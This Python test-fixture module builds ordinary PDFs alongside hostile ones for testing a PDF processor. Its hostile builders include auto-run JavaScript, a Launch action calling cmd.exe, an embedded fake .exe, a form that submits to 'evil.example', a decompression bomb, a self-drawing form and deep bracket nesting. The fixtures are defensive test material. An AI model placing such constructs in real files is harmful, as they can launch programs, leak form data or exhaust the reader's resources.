"""Files as people send them, and files as attackers do; all made here."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
import typst
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image, ImageDraw

Mend = Callable[[Pdf], None]
JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('x')"))


@cache
def office(pages: int = 1, *, flipped: bool = False) -> bytes:
    """An export with headings, links and bookmarks."""
    text = (
        f"#set page(flipped: {str(flipped).lower()})\n"
        '#outline()\n= Report\n#link("https://example.com")[site]\n#lorem(80)\n'
    )
    return typst.compile((text + "#pagebreak()\n= More\n#lorem(200)\n" * (pages - 1)).encode(), format="pdf")


def mended(mend: Mend, base: bytes | None = None, **save: object) -> bytes:
    """A PDF after something was done to it."""
    with pikepdf.open(io.BytesIO(base or office())) as pdf:
        mend(pdf)
        file = io.BytesIO()
        pdf.save(file, **save)  # type: ignore[arg-type]
    return file.getvalue()


def picture(form: str, size: tuple[int, int] = (600, 800), **save: object) -> bytes:
    """A photograph of a page, more or less."""
    image = Image.effect_noise(size, 40).convert("RGB")
    ImageDraw.Draw(image).rectangle((50, 50, 300, 200), fill=(200, 30, 30))
    file = io.BytesIO()
    image.save(file, form, **save)
    return file.getvalue()


def scan(pages: int = 1) -> bytes:
    """A scanner's PDF: one photo a page, with an invisible text over it, in a font that is not in the file."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _page in range(pages):
        photo = pdf.make_stream(
            picture("JPEG"),
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=600,
            Height=800,
            Filter=Name.DCTDecode,
        )
        photo.ColorSpace, photo.BitsPerComponent = Name.DeviceRGB, 8
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(XObject=Dictionary(I=photo), Font=Dictionary(F=font))
        page.Contents = pdf.make_stream(
            b"q 595 0 0 842 0 0 cm /I Do Q BT 3 Tr /F 12 Tf 72 72 Td (read by OCR) Tj ET"
        )
    return _bytes(pdf)


def standard_font(text: bytes = b"Hello") -> bytes:
    """A PDF whose font every reader has, but not the same one."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(300, 300))
    page.Resources = Dictionary(
        Font=Dictionary(F=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    page.Contents = pdf.make_stream(b"BT /F 40 Tf 40 140 Td (" + text + b") Tj ET")
    return _bytes(pdf)


def form(*, looks: bool = True, made_up: bool = False) -> bytes:
    """A filled field, with or without a look of its own."""

    def mend(pdf: Pdf) -> None:
        field = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=pikepdf.String("name"),
            V=pikepdf.String("Jan"),
        )
        field.Rect, field.F, field.DA = Array([300, 300, 500, 340]), 4, pikepdf.String("/Helv 12 Tf 0 g")
        if looks:
            look = pdf.make_stream(b"1 0 0 rg 0 0 200 40 re f", Type=Name.XObject, Subtype=Name.Form)
            look.BBox = Array([0, 0, 200, 40])
            field.AP = Dictionary(N=look)
        here = pdf.make_indirect(field)
        pdf.pages[0].Annots = Array([here])
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([here]), NeedAppearances=made_up, DR=Dictionary(Font=Dictionary(Helv=font))
        )

    return mended(mend)


def acting(what: str) -> bytes:
    """A PDF that wants to do something."""

    def mend(pdf: Pdf) -> None:
        page = pdf.pages[0]
        exe = pdf.make_stream(b"MZ" + b"\0" * 500, Type=Name.EmbeddedFile)
        files = Dictionary(Type=Name.Filespec, F=pikepdf.String("a.exe"), EF=Dictionary(F=exe))
        launch = Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))
        submit = Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
        if what == "open":
            pdf.Root.OpenAction = JAVASCRIPT
        elif what == "page":
            page.AA = Dictionary(O=JAVASCRIPT)
        elif what == "name":
            pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("x"), JAVASCRIPT])))
        elif what == "launch":
            page.Annots = Array(
                [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]), A=launch)]
            )
        elif what == "file":
            pdf.Root.Names = Dictionary(
                EmbeddedFiles=Dictionary(Names=Array([pikepdf.String("a.exe"), files]))
            )
        elif what == "xfa":
            pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))
        elif what == "submit":
            page.Annots = Array(
                [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=submit)]
            )
        elif what == "media":
            page.Annots = Array(
                [
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.RichMedia,
                        Rect=Array([0, 0, 9, 9]),
                        F=2,
                        RichMediaContent=Dictionary(Assets=files),
                    )
                ]
            )

    return mended(mend)


ACTS = ("open", "page", "name", "launch", "file", "xfa", "submit", "media")


def bomb(megabytes: int) -> bytes:
    """Drawing orders that unpack to so much; packed in no time, because its blocks repeat."""
    packer = zlib.compressobj(9)
    start = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    page.Contents = pdf.make_stream(start + block * megabytes, Filter=Name.FlateDecode)
    file = io.BytesIO()
    pdf.save(file, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return file.getvalue()


def endless() -> bytes:
    """A form that draws itself."""

    def mend(pdf: Pdf) -> None:
        form = pdf.make_stream(b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 100, 100]))
        form.Resources = Dictionary(XObject=Dictionary(X=form))
        pdf.pages[0].Resources.XObject = Dictionary(X=form)
        pdf.pages[0].contents_add(b"/X Do")

    return mended(mend)


def nested(depth: int = 200_000) -> bytes:
    """Brackets in brackets."""
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + b"[" * depth + b"]" * depth + b">>\nendobj\n"
    )


def vast() -> bytes:
    """A picture that says it is a hundred thousand pixels wide and high."""

    def mend(pdf: Pdf) -> None:
        image = pdf.make_stream(
            b"\0" * 100, Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000
        )
        image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
        pdf.pages[0].Resources.XObject = Dictionary(I=image)
        pdf.pages[0].contents_add(b"/I Do")

    return mended(mend)


def _bytes(pdf: Pdf) -> bytes:
    file = io.BytesIO()
    pdf.save(file)
    return file.getvalue()
